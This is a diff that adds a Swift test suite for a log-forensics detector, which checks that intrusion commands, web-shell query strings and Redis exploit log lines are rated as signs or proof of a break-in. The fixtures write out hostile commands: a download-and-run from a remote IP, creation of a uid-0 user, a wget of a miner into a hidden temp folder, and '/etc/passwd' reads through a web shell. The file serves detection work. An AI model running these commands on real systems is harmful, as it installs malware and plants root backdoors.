@@ -1,0 +1,80 @@
+import Model
+import Testing
+
+@testable import Inquiry
+
+@Suite struct `Commands in logs` {
+    @Test(arguments: [
+        "curl -fsSL http://198.51.100.9/u.sh | bash", "useradd -o -u 0 -M sysadm", "usermod --uid 0 lp", "/dev/shm/.k -d",
+        "wget -q http://198.51.100.9/x -O /tmp/.x/kinsing",
+    ])
+    func `that nobody honest gives prove a break-in`(command: String) {
+        let traits: Set<Model.Trait> =
+            command.contains("| bash") ? [.downloadAndRun] : command.hasPrefix("/dev") ? [.runsFromTemporaryFolder] : []
+        #expect(CommandJudgement.gravity(RawText(command), traits, isJob: false, isService: false) == .proof)
+    }
+
+    @Test func `of an installer that has a name are a sign where a person gives them, and proof where a job does`() {
+        let command: RawText = "curl -fsSL https://get.docker.com | sh"
+        #expect(CommandJudgement.gravity(command, [.downloadAndRun], isJob: false, isService: false) == .sign)
+        #expect(CommandJudgement.gravity(command, [.downloadAndRun], isJob: true, isService: false) == .proof)
+    }
+
+    @Test(arguments: ["useradd -u 1000 tanaka", "apt update", "sh /tmp/install-agent.sh", "useradd -u 01 x"])
+    func `of every day say nothing`(command: String) {
+        #expect(CommandJudgement.gravity(RawText(command), [], isJob: false, isService: false) == nil)
+    }
+}
+
+@Suite struct `Queries of requests` {
+    @Test(arguments: [
+        "/x.php?cmd=id", "/x.php?c=uname+-a", "/a.jsp?i=ls%20-la", "/z.jsp?comment=wget+http://198.51.100.9/l", "/p.php?q=cat+/etc/passwd",
+    ])
+    func `that are commands of a shell are known as such`(target: String) {
+        #expect(ShellQuery.isCommand(RawText(target)))
+    }
+
+    @Test(arguments: [
+        "/list.php?sort=id", "/search.php?q=python+tutorial", "/pets.php?kind=cat", "/a.php?lang=sh", "/forum.php?cmd=list", "/x.php",
+    ])
+    func `of honest sites are not`(target: String) {
+        #expect(!ShellQuery.isCommand(RawText(target)))
+    }
+}
+
+@Suite struct `Words of records` {
+    private func rule(_ text: String, isServers: Bool = false) -> TelltaleRule? {
+        let bytes = Array(text.utf8)
+        return TelltaleWords.shared.rule(bytes.span, isServers: isServers)?.rule
+    }
+
+    @Test func `of a program that was fetched tell only in a server's log of errors`() {
+        let line = "2014-09-27 13:01:10 (210 KB/s) - '/tmp/ha.pl' saved [25211/25211]"
+        let inServer = rule(line, isServers: true)
+        let onTerminal = rule(line)
+        #expect(inServer?.kind == .output)
+        #expect(inServer?.gravity == .proof)
+        #expect(onTerminal == nil)
+    }
+
+    @Test func `of a module that Redis loaded prove a break-in unless it lies where modules belong`() {
+        let planted = rule("1102:M 15 Aug 2020 18:10:05.101 * Module 'system' loaded from ./exp.so")
+        let honest = rule("1102:M 15 Aug 2020 18:10:05.101 * Module 'search' loaded from /usr/lib/redis/modules/redisearch.so")
+        #expect(planted?.gravity == .proof)
+        #expect(honest == nil)
+    }
+
+    @Test func `of a refused attack are a sign`() {
+        let line = rule("1102:M # Possible SECURITY ATTACK detected. It looks like somebody is sending POST or Host: commands to Redis.")
+        #expect(line?.gravity == .sign)
+    }
+
+    @Test func `stand in one table each, within the 64 that a mask holds`() {
+        for (number, entry) in TelltaleRule.rules.enumerated() {
+            let text = (entry.all + entry.any.prefix(1)).joined(separator: " ")
+            let bytes = Array(text.utf8)
+            let found = TelltaleWords.shared.rule(bytes.span, isServers: true)
+            #expect(found != nil, "rule \(number): \(text)")
+        }
+    }
+}
